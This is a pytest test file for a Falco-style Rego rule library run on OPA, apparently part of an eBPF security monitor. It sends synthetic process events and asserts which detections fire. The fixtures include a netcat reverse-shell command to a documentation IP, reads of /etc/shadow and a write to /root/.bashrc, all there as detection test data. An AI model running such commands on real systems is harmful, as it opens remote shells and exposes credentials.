"""The Rego rule library against the real pinned OPA: its own tests, coverage, a real server.

The server tests send complete event documents (docs/event-schema.md) in one batch and
assert the exact (rule, index) pairs that come back.
"""

from __future__ import annotations

import argparse
import copy
import json
import re
import subprocess
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from bpfopa._paths import POLICIES_DIR, PROJECT_ROOT
from bpfopa.policy._rules_cli import load_rules, register

Doc = dict[str, Any]

MIN_COVERAGE = 90.0


def _opa(opa_binary: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(opa_binary), *args], capture_output=True, text=True, timeout=600, check=False
    )


def _request(url: str, method: str = "GET", body: Any = None) -> Any:
    data = None if body is None else json.dumps(body).encode()
    req = urllib.request.Request(url, data=data, method=method)
    req.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(req, timeout=30) as resp:
        text = resp.read()
    return json.loads(text) if text else None


# --- documents -------------------------------------------------------------------------


def _process(name: str, args: list[str], **extra: Any) -> Doc:
    process: Doc = {
        "pid": 700, "ppid": 600, "tid": 700, "name": name, "exe": f"/usr/bin/{name}",
        "args": args, "argv0": name, "cmdline": " ".join([name, *args]),
        "args_truncated": False, "env": ["HOME=/home/alice"], "cwd": "/home/alice",
        "uid": 1000, "gid": 1000, "euid": 1000, "loginuid": 1000, "user": "alice", "tty": 0,
        "start_time": "2026-11-28T09:00:00.000000000Z", "cap_effective": [],
        "cgroup": ["0::/user.slice"], "container": None,
        "parent": {"pid": 600, "ppid": 1, "tid": 600, "name": "bash", "exe": "/usr/bin/bash",
                   "args": [], "argv0": "bash", "cmdline": "bash", "user": "alice"},
        "ancestors": [{"pid": 1, "name": "systemd", "exe": "/usr/lib/systemd/systemd",
                       "cmdline": "/sbin/init"}],
    }  # fmt: skip
    process.update(extra)
    return process


def _event(name: str, ret: int, params: Doc, **extra: Any) -> Doc:
    event: Doc = {
        "name": name, "nr": 0, "ts": 1, "time": "2026-11-28T09:30:00.000000000Z", "tid": 700,
        "ret": ret, "error": None if ret >= 0 else "EACCES", "params": params, "truncated": [],
    }  # fmt: skip
    event.update(extra)
    return event


def _open(path: str, flags: int, process: Doc, ret: int = 3) -> Doc:
    params = {"dfd": -100, "filename": path, "flags": flags, "mode": 0}
    return {"event": _event("openat", ret, params, path=path, paths={"filename": path}),
            "process": process}  # fmt: skip


def _exec(process: Doc) -> Doc:
    params = {"filename": process["exe"], "argv": [process["name"], *process["args"]]}
    return {"event": _event("execve", 0, params, path=process["exe"]), "process": process}


CONTAINER = {"id": "41e5c07cc310", "full_id": "41e5c07cc310" + "0" * 52, "runtime": "docker"}

BATCH: list[Doc] = [
    _open("/tmp/notes.txt", 0, _process("cat", ["/tmp/notes.txt"])),  # 0 harmless
    _open("/etc/shadow", 0, _process("cat", ["/etc/shadow"])),  # 1 sensitive read
    _open("/etc/shadow", 0, _process("cat", ["/etc/shadow"]), ret=-13),  # 2 failed: no alert
    _exec(_process("nc", ["-e", "/bin/sh", "203.0.113.7", "4444"], container=CONTAINER)),  # 3
    _exec(_process("ls", ["-l"])),  # 4 harmless
    _open("/root/.bashrc", 0o1101, _process("nano", ["/root/.bashrc"])),  # 5 shell config
    {"event": _event("getpid", 700, {}), "process": _process("app", [])},  # 6 no rule wants it
]

EXPECTED = {
    ("Read sensitive file untrusted", 1),
    ("Netcat Remote Code Execution in Container", 3),
    ("Launch Suspicious Network Tool in Container", 3),
    ("Modify Shell Configuration File", 5),
    ("Write below root", 5),
}

# Off by default, as in Falco (consider_hidden_file_creation): O_CREAT of a dot file.
HIDDEN_FILE = ("Create Hidden Files or Directories", 5)


def _alerts(url: str, events: list[Doc]) -> list[Doc]:
    body = _request(f"{url}/v1/data/bpfopa/main/alerts", "POST", {"input": {"events": events}})
    result: list[Doc] = body["result"]
    return result


# --- tests -----------------------------------------------------------------------------


# opa test gives each test 5 s by default; the exhaustive list tests walk every listed path
# through the whole prefilter and can need more on a busy 2-CPU machine.
TEST_TIMEOUT = "--timeout=60s"


def test_rego_unit_tests_pass(opa_binary: Path) -> None:
    done = _opa(opa_binary, "test", TEST_TIMEOUT, "-v", str(POLICIES_DIR))
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr
    summary = re.search(r"PASS: (\d+)/(\d+)", done.stdout)
    assert summary is not None, done.stdout[-2000:]
    passed, total = int(summary.group(1)), int(summary.group(2))
    assert passed == total
    assert "FAIL" not in done.stdout
    assert total >= 2 * len(load_rules(opa_binary, POLICIES_DIR))


def test_rego_coverage_at_least_90_percent(opa_binary: Path) -> None:
    done = _opa(opa_binary, "test", TEST_TIMEOUT, "--coverage", "--format=json", str(POLICIES_DIR))
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["coverage"] >= MIN_COVERAGE, report["coverage"]


def test_every_rule_has_alert_and_near_miss_tests(opa_binary: Path) -> None:
    rules = load_rules(opa_binary, POLICIES_DIR)
    assert len(rules) >= 77
    assert len({r.title for r in rules}) == len(rules)
    assert {r.maturity for r in rules} == {"stable", "incubating", "sandbox"}
    for rule in rules:
        source = Path(rule.file)
        assert rule.package == f"bpfopa.rules.{rule.id}"
        assert source.name == f"{rule.id}.rego"
        tests = source.with_name(f"{rule.id}_test.rego").read_text()
        assert re.search(r"^test_alerts_\w+ if", tests, re.M), rule.id
        assert re.search(r"^test_no_alert_\w+ if", tests, re.M), rule.id
        assert rule.priority in {"EMERGENCY", "ALERT", "CRITICAL", "ERROR", "WARNING",
                                 "NOTICE", "INFORMATIONAL", "DEBUG"}  # fmt: skip
        assert any(t.startswith("mitre_") for t in rule.tags), rule.id
        assert rule.syscalls, rule.id


def test_docs_rule_tables_match_the_policies(opa_binary: Path) -> None:
    """docs/policies.md's rule table and maturity counts are the METADATA's, row for row."""
    rules = load_rules(opa_binary, POLICIES_DIR)
    text = (PROJECT_ROOT / "docs" / "policies.md").read_text()
    rows = re.findall(r"^\| (.+?) \| `(\w+)` \| (\w+) \| (yes|\*\*no\*\*) \| (\w+) \|", text, re.M)
    documented = {
        (title, rid, maturity, on == "yes", priority) for title, rid, maturity, on, priority in rows
    }
    assert documented == {(r.title, r.id, r.maturity, r.enabled, r.priority) for r in rules}
    for maturity in ("stable", "incubating", "sandbox"):
        of = [r for r in rules if r.maturity == maturity]
        on = sum(r.enabled for r in of)
        assert f"| {maturity} | {len(of)} | {on} | {len(of) - on} |" in text, maturity


def test_server_returns_exact_alerts_for_a_batch(opa_server: Any) -> None:
    alerts = _alerts(opa_server.url, BATCH)
    assert {(a["rule"], a["index"]) for a in alerts} == EXPECTED
    for alert in alerts:
        assert set(alert) == {"index", "rule", "id", "priority", "output", "output_fields", "tags"}
        assert "\n" not in alert["output"]
    by_rule = {a["rule"]: a for a in alerts}
    shadow = by_rule["Read sensitive file untrusted"]
    assert shadow["id"] == "read_sensitive_file_untrusted"
    assert shadow["priority"] == "WARNING"
    assert "T1555" in shadow["tags"]
    assert "file=/etc/shadow" in shadow["output"]


def test_server_syscalls_are_the_union_of_enabled_rule_metadata(
    opa_server: Any, opa_binary: Path
) -> None:
    body = _request(f"{opa_server.url}/v1/data/bpfopa/main/syscalls")
    rules = load_rules(opa_binary, POLICIES_DIR)
    declared = {name for rule in rules if rule.enabled for name in rule.syscalls}
    assert set(body["result"]) == declared
    assert {"openat", "execve", "connect", "ptrace", "userfaultfd"} <= declared
    enabled = _request(f"{opa_server.url}/v1/data/bpfopa/main/enabled_rules")["result"]
    assert set(enabled) == {rule.id for rule in rules if rule.enabled}
    assert "create_hidden_files_or_directories" not in enabled


def test_config_switches_a_default_off_rule_on(opa_server: Any) -> None:
    url = f"{opa_server.url}/v1/data/bpfopa/config"
    assert _request(url).get("result") is None  # nothing shipped at the user's path
    _request(url, "PUT", {"enabled_rules": ["create_hidden_files_or_directories"]})
    try:
        alerts = _alerts(opa_server.url, BATCH)
        syscalls = _request(f"{opa_server.url}/v1/data/bpfopa/main/syscalls")["result"]
    finally:
        _request(url, "DELETE")
    assert {(a["rule"], a["index"]) for a in alerts} == EXPECTED | {HIDDEN_FILE}
    assert "openat" in syscalls
    assert {(a["rule"], a["index"]) for a in _alerts(opa_server.url, BATCH)} == EXPECTED


def test_exception_data_suppresses_an_alert(opa_server: Any) -> None:
    url = f"{opa_server.url}/v1/data/bpfopa/exceptions"
    # Nothing is there by default: the shipped defaults live at data.bpfopa.defaults.
    original = _request(url).get("result")
    changed = copy.deepcopy(original) if original is not None else {}
    changed.setdefault("rules", {})["read_sensitive_file_untrusted"] = [
        {"process.name": ["cat"], "event.path": ["/etc/sha*"]}
    ]
    changed["disabled_rules"] = ["launch_suspicious_network_tool_in_container"]
    _request(url, "PUT", changed)
    try:
        alerts = _alerts(opa_server.url, BATCH)
    finally:
        if original is None:
            _request(url, "DELETE")
        else:
            _request(url, "PUT", original)
    assert {(a["rule"], a["index"]) for a in alerts} == {
        ("Netcat Remote Code Execution in Container", 3),
        ("Modify Shell Configuration File", 5),
        ("Write below root", 5),
    }
    # Restored: the next evaluation alerts again.
    assert {(a["rule"], a["index"]) for a in _alerts(opa_server.url, BATCH)} == EXPECTED


def test_policies_list_and_check_commands(
    opa_binary: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    parser = argparse.ArgumentParser()
    register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["policies", "list"])
    assert args.handler(args) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split()[:5] == ["ID", "ON", "MATURITY", "PRIORITY", "TITLE"]
    rules = load_rules(opa_binary, POLICIES_DIR)
    assert out[-1] == f"{len(rules)} rules, {sum(r.enabled for r in rules)} on by default"
    assert any(line.split()[:3] == ["ptrace_anti_debug_attempt", "yes", "stable"] for line in out)
    hidden = "create_hidden_files_or_directories"
    assert any(line.split()[:3] == [hidden, "no", "sandbox"] for line in out)
    args = parser.parse_args(["policies", "list", "--format", "json"])
    assert args.handler(args) == 0
    listed = json.loads(capsys.readouterr().out)
    assert "Fileless execution via memfd_create" in {r["title"] for r in listed}
    assert {r["id"]: r["enabled"] for r in listed}["create_hidden_files_or_directories"] is False
    args = parser.parse_args(["policies", "check"])
    assert args.handler(args) == 0


def test_policies_check_fails_on_a_broken_policy(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "broken.rego").write_text("package broken\n\nx := y\n")
    parser = argparse.ArgumentParser()
    register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["policies", "--policies", str(tmp_path), "check"])
    assert args.handler(args) == 1
    assert "failed" in capsys.readouterr().err


def test_server_survives_malformed_documents(opa_server: Any) -> None:
    broken: list[Any] = [
        {},
        {"event": None, "process": "x"},
        {"event": {"name": "openat", "ret": "3", "params": {"flags": 1.5}}},
        {"event": {"name": "execve", "ret": 0}, "process": {"name": None, "args": [1]}},
        {"event": {"name": "connect", "ret": 0, "params": {"uservaddr": []}, "fd": {"name": 1}}},
        "not even an object",
        BATCH[1],
    ]
    alerts = _alerts(opa_server.url, broken)
    assert {(a["rule"], a["index"]) for a in alerts} == {("Read sensitive file untrusted", 6)}
